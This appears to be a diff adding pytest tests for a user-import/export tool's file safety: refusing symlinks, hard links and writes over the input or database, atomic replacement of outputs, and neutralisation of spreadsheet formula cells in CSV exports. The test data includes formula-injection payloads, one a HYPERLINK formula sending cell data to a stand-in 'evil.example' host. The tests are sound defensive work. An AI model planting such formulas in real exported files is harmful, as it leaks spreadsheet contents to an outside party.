@@ -27,8 +27,10 @@ from users_service.transfer import (
     BATCH_SIZE_MAX,
     Format,
     TransferError,
+    export_file,
     export_users,
     import_file,
+    safe_output_file,
 )
 
 BIN = Path(sys.executable).parent
@@ -205,10 +207,10 @@ def test_rows_whose_email_or_id_belongs_to_another_user_are_rejected(client, app
     ]:
         single = write(tmp_path / "single.csv", f"{rows[0]}\n{line}\n")
         summary, rejects_path = import_(app, single)
-        refused = read_rejects_csv(rejects_path)
         if code is None:
-            assert (summary.already_present, refused) == (1, [])
+            assert (summary.already_present, rejects_path.exists()) == (1, False)
         else:
+            refused = read_rejects_csv(rejects_path)
             assert [(r["code"], r["reason"]) for r in refused] == [(code, reason)]
     assert user_count(client) == 2
 
@@ -353,3 +355,245 @@ def test_a_file_without_the_needed_columns_or_format_is_refused_as_a_whole(clien
     with pytest.raises(ValueError, match="batch size"):
         import_(app, write(tmp_path / "b.csv", "name,email,age\n"), batch_size=BATCH_SIZE_MAX + 1)
     assert user_count(client) == 0
+
+
+# --- files the commands write ---------------------------------------------
+
+
+def files_in(directory: Path) -> list[str]:
+    return sorted(path.name for path in directory.iterdir())
+
+
+def test_import_refuses_rejects_that_would_overwrite_its_input(client, app, tmp_path):
+    rows = "".join(f"User {n},user{n}@example.com,{n % 150}\n" for n in range(500))
+    source = write(tmp_path / "big.csv", "name,email,age\n" + rows)
+    original = source.read_bytes()
+    os.link(source, tmp_path / "hard-link.csv")
+
+    for rejects in [source, tmp_path / "." / "big.csv", tmp_path / "hard-link.csv"]:
+        with pytest.raises(TransferError, match=r"is the file being imported"):
+            import_(app, source, rejects_path=rejects)
+    assert source.read_bytes() == original
+    assert user_count(client) == 0
+    assert files_in(tmp_path) == ["big.csv", "hard-link.csv"]
+
+
+def test_import_and_export_refuse_to_write_over_the_sqlite_database(client, app, backend, tmp_path):
+    if backend != "sqlite":
+        pytest.skip("only SQLite keeps the database in a file")
+    create_ada(client)
+    engine = app.state.database.engine
+    database = Path(engine.url.database)
+    before = database.stat()
+    os.link(database, tmp_path / "hard-link.db")
+    source = write(tmp_path / "users.csv", "name,email,age\nAlan,alan@example.com,400\n")
+    spellings = [
+        database,
+        database.parent / "." / database.name,
+        tmp_path / "hard-link.db",
+        Path(f"{database}-wal"),
+    ]
+    for output in spellings:
+        with pytest.raises(TransferError, match=r"is the database"):
+            export_file(engine, output, progress=False)
+        with pytest.raises(TransferError, match=r"is the database"):
+            import_(app, source, rejects_path=output)
+    after = database.stat()
+    assert (after.st_ino, after.st_size, after.st_mtime_ns) == (
+        before.st_ino,
+        before.st_size,
+        before.st_mtime_ns,
+    )
+    assert [u["name"] for u in listing(client)] == [ADA["name"]]
+
+
+def test_outputs_that_are_symbolic_links_are_refused_and_their_targets_left_alone(
+    client, app, tmp_path
+):
+    create_ada(client)
+    target = write(tmp_path / "precious.txt", "precious\n")
+    link = tmp_path / "users.jsonl"
+    link.symlink_to(target)
+    dangling = tmp_path / "dangling.csv"
+    dangling.symlink_to(tmp_path / "created-through-the-link.csv")
+    source = write(tmp_path / "users.csv", "name,email,age\nAlan,alan@example.com,400\n")
+
+    for output in [link, dangling]:
+        with pytest.raises(TransferError, match=r"is a symbolic link"):
+            export_file(app.state.database.engine, output, progress=False)
+        with pytest.raises(TransferError, match=r"is a symbolic link"):
+            import_(app, source, rejects_path=output)
+    assert target.read_text() == "precious\n"
+    assert link.is_symlink() and dangling.is_symlink()
+    assert files_in(tmp_path) == ["dangling.csv", "precious.txt", "users.csv", "users.jsonl"]
+    assert user_count(client) == 1
+
+
+def test_a_clean_import_leaves_an_existing_rejects_file_alone_and_makes_none(client, app, tmp_path):
+    kept = write(tmp_path / "users.rejects.csv", "line,code,reason\n9,malformed,from last time\n")
+    clean = write(tmp_path / "users.csv", "name,email,age\nAda,first@example.com,36\n")
+    summary, rejects_path = import_(app, clean)
+    assert (summary.imported, summary.rejected, rejects_path) == (1, 0, kept)
+    assert kept.read_text() == "line,code,reason\n9,malformed,from last time\n"
+
+    summary, rejects_path = import_(
+        app, write(tmp_path / "more.jsonl", json.dumps({**ADA, "email": "b@example.com"}) + "\n")
+    )
+    assert (summary.imported, summary.rejected) == (1, 0)
+    assert not rejects_path.exists()
+    assert files_in(tmp_path) == ["more.jsonl", "users.csv", "users.rejects.csv"]
+
+    # With rejects, the file is replaced by this run's.
+    summary, _ = import_(app, write(tmp_path / "users.csv", CSV_WITH_MISTAKES))
+    assert summary.rejected == 6
+    assert len(read_rejects_csv(kept)) == 6
+
+
+def test_export_replaces_its_output_whole_and_only_once_it_is_written(client, app, tmp_path):
+    for _ in range(5):
+        create_user(client)
+    output = write(tmp_path / "users.jsonl", "the previous export\n")
+    output.chmod(0o640)
+
+    assert export_file(app.state.database.engine, output, progress=False) == 5
+    assert output.read_bytes() == export(app)
+    assert output.stat().st_mode & 0o777 == 0o640  # a replaced file keeps its permissions
+    assert files_in(tmp_path) == ["users.jsonl"]
+
+    # Interrupted half-way: the previous file stays, and nothing else.
+    with pytest.raises(KeyboardInterrupt), safe_output_file(output) as pending:
+        pending.stream.write(b'{"half": ')
+        raise KeyboardInterrupt
+    assert output.read_bytes() == export(app)
+    assert files_in(tmp_path) == ["users.jsonl"]
+
+    # A file the writer decides not to keep is never made.
+    with safe_output_file(tmp_path / "unwanted.csv") as pending:
+        pending.stream.write(b"line,code,reason\n")
+        pending.keep = False
+    assert files_in(tmp_path) == ["users.jsonl"]
+
+
+# Names a spreadsheet would run as formulas, and names that start with the
+# quote that neutralises them: each must come back exactly.
+FORMULA_NAMES = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(1)",
+    "'=already quoted",
+    "''=quoted twice",
+    "'' two quotes",
+    "'+",
+    "'plain apostrophe",
+    "'",
+    "O'Brien",
+    "Ada = Lovelace",
+]
+# What the CSV export writes for each (only the cells a spreadsheet would
+# read as a formula, or that would otherwise read back as one, get the quote).
+FORMULA_CELLS = {
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")': (
+        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
+    ),
+    "+SUM(1,2)": "'+SUM(1,2)",
+    "-2+3": "'-2+3",
+    "@SUM(1)": "'@SUM(1)",
+    "'=already quoted": "''=already quoted",
+    "''=quoted twice": "'''=quoted twice",
+    "'' two quotes": "''' two quotes",
+    "'+": "''+",
+    "'plain apostrophe": "'plain apostrophe",
+    "'": "'",
+    "O'Brien": "O'Brien",
+    "Ada = Lovelace": "Ada = Lovelace",
+}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def create_formula_users(client) -> list[dict[str, Any]]:
+    emails = ["-minus{}@example.com", "+plus{}@example.com", "={}@example.com", "'-{}@example.com"]
+    return [
+        create_user(client, name=name, email=emails[n % len(emails)].format(n))
+        for n, name in enumerate(FORMULA_NAMES)
+    ]
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode())))[1:]
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, app):
+    created = create_formula_users(client)
+    rows = csv_rows(export(app, "csv"))
+    assert [(row[1], row[2]) for row in rows] == [
+        (FORMULA_CELLS[user["name"]], "'" + user["email"]) for user in created
+    ]
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+
+
+@pytest.mark.parametrize("raw", [False, True])
+def test_csv_export_then_import_gives_back_formula_like_names_exactly(client, app, tmp_path, raw):
+    create_formula_users(client)
+    before = listing(client)
+    path = tmp_path / "users.csv"
+    path.write_bytes(export(app, "csv", raw=raw))
+    with app.state.database.engine.begin() as connection:
+        connection.execute(users.delete())
+
+    summary, _ = import_(app, path, raw=raw)
+    assert (summary.imported, summary.rejected) == (len(FORMULA_NAMES), 0)
+    assert listing(client) == before
+
+
+def test_raw_csv_export_writes_cells_as_they_are(client, app):
+    created = create_formula_users(client)
+    rows = csv_rows(export(app, "csv", raw=True))
+    assert [(row[1], row[2]) for row in rows] == [(u["name"], u["email"]) for u in created]
+
+
+def test_jsonl_export_writes_formula_like_names_as_they_are(client, app):
+    created = create_formula_users(client)
+    lines = [json.loads(line) for line in export(app).splitlines()]
+    assert [(u["name"], u["email"]) for u in lines] == [(u["name"], u["email"]) for u in created]
+
+
+def formula_rows_file(path: Path) -> Path:
+    """A CSV file, written by a spreadsheet-unaware program, whose rejected
+    rows carry formulas; and one good row whose name starts with a quote."""
+    with path.open("w", newline="", encoding="utf-8") as out:
+        writer = csv.writer(out, lineterminator="\n")
+        writer.writerow(["name", "email", "age"])
+        writer.writerow(['=HYPERLINK("https://evil.example")', "a@example.com", "200"])
+        writer.writerow(["@SUM(1)", "-not-an-email", "1"])
+        writer.writerow(["'=quoted", "q@example.com", "-1"])
+        writer.writerow(["Tab", "tab@example.com", "\t=1+1"])
+        writer.writerow(["'+1 guy", "plus@example.com", "30"])
+    return path
+
+
+def test_the_rejects_file_of_a_csv_import_neutralises_formulas(client, app, tmp_path):
+    summary, rejects_path = import_(app, formula_rows_file(tmp_path / "users.csv"))
+    assert (summary.imported, summary.rejected) == (1, 4)
+    with rejects_path.open(newline="", encoding="utf-8") as rejects:
+        rows = list(csv.reader(rejects))[1:]
+    assert [row[3:] for row in rows] == [
+        ['\'=HYPERLINK("https://evil.example")', "a@example.com", "200"],
+        ["'@SUM(1)", "'-not-an-email", "1"],
+        ["'=quoted", "q@example.com", "'-1"],
+        ["Tab", "tab@example.com", "'\t=1+1"],
+    ]
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    # The file's "'+1 guy" is the neutralised form of "+1 guy".
+    assert [u["name"] for u in listing(client)] == ["+1 guy"]
+
+
+def test_raw_import_takes_cells_as_they_are_and_writes_its_rejects_so(client, app, tmp_path):
+    source = formula_rows_file(tmp_path / "users.csv")
+    summary, rejects_path = import_(app, source, raw=True)
+    assert (summary.imported, summary.rejected) == (1, 4)
+    with source.open(newline="", encoding="utf-8") as original:
+        expected = list(csv.reader(original))[1:5]
+    with rejects_path.open(newline="", encoding="utf-8") as rejects:
+        assert [row[3:] for row in list(csv.reader(rejects))[1:]] == expected
+    assert [u["name"] for u in listing(client)] == ["'+1 guy"]
